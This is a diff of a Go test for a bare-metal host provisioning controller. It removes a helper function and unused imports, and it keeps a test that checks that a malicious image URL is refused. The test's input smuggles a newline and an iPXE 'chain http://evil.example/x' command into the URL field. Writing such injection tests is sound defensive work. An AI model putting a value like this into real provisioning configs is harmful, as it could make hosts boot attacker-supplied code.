@@ -11,10 +11,8 @@ import (
 
 	"github.com/google/go-tpm/tpm2"
 	. "github.com/onsi/gomega"
-	corev1 "k8s.io/api/core/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
-	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	metal3v1 "github.com/metal3-io/baremetal-operator/apis/metal3.io/v1alpha1"
@@ -268,7 +266,7 @@ func TestImageURLInjectionRefused(t *testing.T) {
 	g.Eventually(state(h)).Should(Equal(metal3v1.StateAvailable))
 	// The URL is in the claim itself: a claim with a clean URL, edited afterwards, could be PXE-booted
 	// in between (it was, on a warm second run).
-	claimWith(g, ns, h, "never", func(h *metal3v1.BareMetalHost) {
+	claim(g, ns, h, "never", func(h *metal3v1.BareMetalHost) {
 		h.Spec.Image.URL = "http://images.example/live.iso\nchain http://evil.example/x"
 	})
 	g.Eventually(condition(h, baremetalhost.BareMetalHostProvisionedCondition)).Should(And(
@@ -277,20 +275,6 @@ func TestImageURLInjectionRefused(t *testing.T) {
 	_, ok := lab.inv.HostByMAC(mustMAC("52:54:00:53:00:01"))
 	g.Expect(ok).To(BeFalse())
 	g.Consistently(func() int { return sim.State("s1").PXEBoots }, "2s").Should(BeZero())
-}
-
-// claimWith is claim with the claim's spec changed by mutate in the same update.
-func claimWith(g Gomega, ns string, h *metal3v1.BareMetalHost, data string, mutate func(*metal3v1.BareMetalHost)) {
-	sec := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, GenerateName: h.Name + "-user-data-"},
-		Data: map[string][]byte{"userData": []byte(data)}}
-	g.Expect(env.Create(context.Background(), sec)).To(Succeed())
-	patchHost(g, h, func(h *metal3v1.BareMetalHost) {
-		h.Spec.ConsumerRef = &corev1.ObjectReference{APIVersion: "infrastructure.cluster.x-k8s.io/v1alpha1", Kind: "YonderMetalMachine", Namespace: ns, Name: "m-" + h.Name}
-		h.Spec.Image = &metal3v1.Image{URL: "http://images.example/yonder-live.iso", Checksum: "0123abcd", ChecksumType: metal3v1.SHA256, DiskFormat: ptr.To("live-iso")}
-		h.Spec.UserData = &corev1.SecretReference{Name: sec.Name, Namespace: ns}
-		h.Spec.Online = true
-		mutate(h)
-	})
 }
 
 // deleteHost deletes h and waits until the controller has removed its finalizer and the host is gone.
